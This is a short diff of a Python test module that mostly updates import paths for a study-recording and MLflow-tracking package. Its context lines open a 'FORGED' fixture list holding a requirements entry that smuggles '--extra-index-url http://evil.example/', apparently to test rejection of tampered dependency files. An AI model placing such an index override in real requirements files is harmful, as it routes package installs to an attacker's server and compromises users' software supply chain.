@@ -4,12 +4,12 @@ from pathlib import Path
 
 import pytest
 
-from study.events import Concluded, Finished, SessionStarted
-from study.folder import StudyFolder
-from study.pictures import picture_file
-from study.provenance import recorded_versions
-from study.tracking import mlflow_files as files
-from study.tracking.mlflow_model import requirements
+from study.record.events import Concluded, Finished, SessionStarted
+from study.record.folder import StudyFolder
+from study.record.pictures import picture_file
+from study.record.provenance import recorded_versions
+from study.tracking.mlflow import files
+from study.tracking.mlflow.registry import requirements
 
 FORGED = [
     "torch==2.4.6\n--extra-index-url http://evil.example/",
